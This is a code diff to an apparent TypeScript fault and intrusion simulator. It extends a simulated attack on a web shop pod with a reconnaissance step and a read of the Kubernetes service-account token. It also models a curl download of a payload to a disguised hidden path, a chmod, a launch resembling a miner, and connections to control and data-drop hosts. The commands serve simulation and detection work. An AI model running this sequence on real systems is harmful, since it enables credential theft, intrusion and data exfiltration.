@@ -1,6 +1,7 @@
 // What goes wrong on request: a lossy network at the payments database, a roll-out that runs out of memory, an intruder in the web shop.
 // Level-triggered: `apply` brings the world to what is wanted, however often it is called.
 import { intruder } from "./catalog.ts";
+import { callConnect, touchFile } from "./deeds.ts";
 import type { Lifecycle } from "./lifecycle.ts";
 import { ask } from "./names.ts";
 import {
@@ -119,7 +120,7 @@ function attackAgain(world: World, timeMs: number, isOn: () => boolean): void {
   });
 }
 
-/** One episode: download and start of a dropped program, a scan, a look at the database, data sent out. About a minute. */
+/** One episode: a look around, download and start of a dropped program, a scan, a look at the database, data sent out. About a minute. */
 function intrude(world: World, pod: Pod, timeMs: number): void {
   const { main } = pod;
   if (main === undefined) return;
@@ -131,17 +132,39 @@ function intrude(world: World, pod: Pod, timeMs: number): void {
   const curl = run(shell, ["/usr/bin/curl", "-fsS", url], timeMs + 40, 900);
   download(world, pod, curl, timeMs + 60);
   const script = run(shell, ["/bin/sh"], timeMs + 45, 8900);
-  run(script, ["/bin/chmod", "+x", "/tmp/.cache/kworkerd"], timeMs + 1200, 15);
-  const dropped = run(
-    script,
-    ["/tmp/.cache/kworkerd", "--pool", intruder.control.name, "--quiet"],
-    timeMs + 1400,
-    62_000,
-  );
-  control(world, pod, dropped, timeMs + 1600);
-  scan(world, pod, dropped, timeMs + 4000);
-  lookAtDatabase(world, pod, dropped, timeMs + 16_000);
-  sendOut(world, pod, dropped, timeMs + 22_000);
+  lookAround(world, pod, (words, atMs) => run(script, words, atMs, 15), timeMs + 300);
+  const fetch = run(script, ["/usr/bin/curl", "-fsS", "-o", dropped.path, `${url}.bin`], timeMs + 700, 400);
+  touchFile(world, pod, fetch, {
+    ...dropped,
+    deed: "create",
+    call: "openat",
+    flags: 0o1101,
+    mode: 0o644,
+    atMs: timeMs + 760,
+  });
+  const chmod = run(script, ["/bin/chmod", "+x", dropped.path], timeMs + 1200, 15);
+  touchFile(world, pod, chmod, { ...dropped, deed: "chmod", call: "fchmodat", mode: 0o755, atMs: timeMs + 1206 });
+  const program = run(script, [dropped.path, "--pool", intruder.control.name, "--quiet"], timeMs + 1400, 62_000);
+  control(world, pod, program, timeMs + 1600);
+  scan(world, pod, program, timeMs + 4000);
+  lookAtDatabase(world, pod, program, timeMs + 16_000);
+  sendOut(world, pod, program, timeMs + 22_000);
+}
+
+const dropped = { path: "/tmp/.cache/kworkerd", isUpper: true } as const;
+const tokenPath = "/var/run/secrets/kubernetes.io/serviceaccount/token";
+
+/** Who am I, where am I, what runs here; and the pod's token. */
+function lookAround(
+  world: World,
+  pod: Pod,
+  run: (words: readonly string[], atMs: number) => SimProcess,
+  timeMs: number,
+): void {
+  for (const [index, name] of ["id", "hostname", "uname", "ps", "env"].entries())
+    run([`/usr/bin/${name}`], timeMs + index * 40);
+  const cat = run(["/bin/cat", tokenPath], timeMs + 240);
+  touchFile(world, pod, cat, { deed: "open", call: "openat", path: tokenPath, isUpper: false, atMs: timeMs + 246 });
 }
 
 function download(world: World, pod: Pod, process: SimProcess, timeMs: number): void {
@@ -149,6 +172,7 @@ function download(world: World, pod: Pod, process: SimProcess, timeMs: number): 
   const client = endOfPod(pod, process);
   const knownMs = ask(world, pod, { name: from.name, type: "A", asker: client }, timeMs);
   const address = from.addresses[0];
+  callConnect(world, pod, process, { address, port: 80, atMs: knownMs });
   const connection = connect(
     world,
     { client, server: endOutside(address), address, port: 80, targetPort: 80 },
@@ -200,6 +224,7 @@ function lookAtDatabase(world: World, pod: Pod, process: SimProcess, timeMs: num
     later(world, timeMs + delayMs, (atMs) => {
       const [back] = readyPods(database);
       if (back === undefined || pod.main === undefined) return;
+      callConnect(world, pod, process, { address: database.clusterAddress, port: 5432, atMs });
       const dial = { client, server: endOfPod(back), address: database.clusterAddress, port: 5432, targetPort: 5432 };
       const connection = connect(world, dial, atMs);
       carry(connection, { sent: 900, received: delayMs > 3000 ? 5_400_000 : 420 });
@@ -214,6 +239,7 @@ function sendOut(world: World, pod: Pod, process: SimProcess, timeMs: number): v
   const client = endOfPod(pod, process);
   const knownMs = ask(world, pod, { name: drop.name, type: "A", asker: client }, timeMs);
   const address = drop.addresses[0];
+  callConnect(world, pod, process, { address, port: 443, atMs: knownMs });
   const connection: Connection = connect(
     world,
     { client, server: endOutside(address), address, port: 443, targetPort: 443 },
